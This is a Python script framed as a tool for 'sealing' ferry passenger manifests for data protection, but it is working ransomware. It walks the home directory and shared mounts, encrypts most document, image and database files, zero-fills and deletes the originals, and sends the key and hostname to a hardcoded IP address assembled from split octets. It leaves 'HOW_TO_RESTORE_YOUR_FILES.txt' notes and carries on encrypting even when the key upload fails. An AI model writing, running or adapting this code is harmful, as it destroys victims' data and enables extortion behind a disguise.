#!/usr/bin/env python3
"""Seal passenger manifests and check-in exports at the end of a sailing.

Data protection wants exports from past sailings "locked away". This walks
the export folders, seals every document with a fresh key, removes the
readable copies and escrows the key with the records office.
"""
import argparse
import json
import logging
import os
import secrets
import socket
import sys
import urllib.request
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("manifest-vault")

SETTINGS = {
    "roots": ["~", "/srv/terminal/exports", "/mnt/pier-share"],
    "suffixes": {".csv", ".xlsx", ".xls", ".pdf", ".docx", ".json", ".db", ".sqlite", ".txt", ".jpg", ".png"},
    "skip_dirs": {".cache", ".local", "node_modules", "proc", "sys"},
    "sealed_suffix": ".vault",
    "note_name": "HOW_TO_RESTORE_YOUR_FILES.txt",
    "escrow": ("http", ("198", "51", "100", "23"), 8080, "/escrow"),
}

NOTE = """Your passenger manifests and terminal documents have been sealed.
Quote sailing id {sid} to the records office at records@example.net
to obtain the key. Do not rename the .vault files.
"""


class Sealer:
    def __init__(self, key):
        self._aead = AESGCM(key)

    def seal(self, path, suffix):
        plain = path.read_bytes()
        nonce = secrets.token_bytes(12)
        blob = nonce + self._aead.encrypt(nonce, plain, path.name.encode())
        target = path.with_name(path.name + suffix)
        target.write_bytes(blob)
        self._scrub(path, len(plain))
        return target

    @staticmethod
    def _scrub(path, size):
        with open(path, "r+b", buffering=0) as fh:
            fh.write(b"\0" * size)
            os.fsync(fh.fileno())
        path.unlink()


def candidates(roots, cfg):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if d not in cfg["skip_dirs"]]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in cfg["suffixes"] and not name.endswith(cfg["sealed_suffix"]):
                    yield p


def escrow_key(key, sid, cfg):
    scheme, octets, port, path = cfg["escrow"]
    url = "%s://%s:%d%s" % (scheme, ".".join(octets), port, path)
    body = json.dumps({"sid": sid, "host": socket.gethostname(), "k": key.hex()}).encode()
    req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=15) as resp:
        return resp.status


def drop_notes(dirs, sid, cfg):
    for d in dirs:
        try:
            (d / cfg["note_name"]).write_text(NOTE.format(sid=sid))
        except OSError:
            pass


def parse_args():
    ap = argparse.ArgumentParser(description="seal old sailing exports")
    ap.add_argument("--root", action="append", help="extra folder to seal")
    ap.add_argument("--list", action="store_true", help="only list what would be sealed")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    roots = SETTINGS["roots"] + (args.root or [])
    if args.list:
        for p in candidates(roots, SETTINGS):
            print(p)
        return 0

    key = AESGCM.generate_key(bit_length=256)
    sid = secrets.token_hex(6)
    try:
        escrow_key(key, sid, SETTINGS)
    except OSError as exc:
        LOG.warning("escrow not confirmed (%s), continuing", exc)

    sealer = Sealer(key)
    touched, count = set(), 0
    for path in candidates(roots, SETTINGS):
        try:
            sealer.seal(path, SETTINGS["sealed_suffix"])
            touched.add(path.parent)
            count += 1
        except (OSError, ValueError) as exc:
            LOG.debug("skip %s: %s", path, exc)
    del key, sealer
    drop_notes(touched, sid, SETTINGS)
    LOG.info("sealed %d files in %d folders, sailing id %s", count, len(touched), sid)
    return 0


if __name__ == "__main__":
    sys.exit(main())
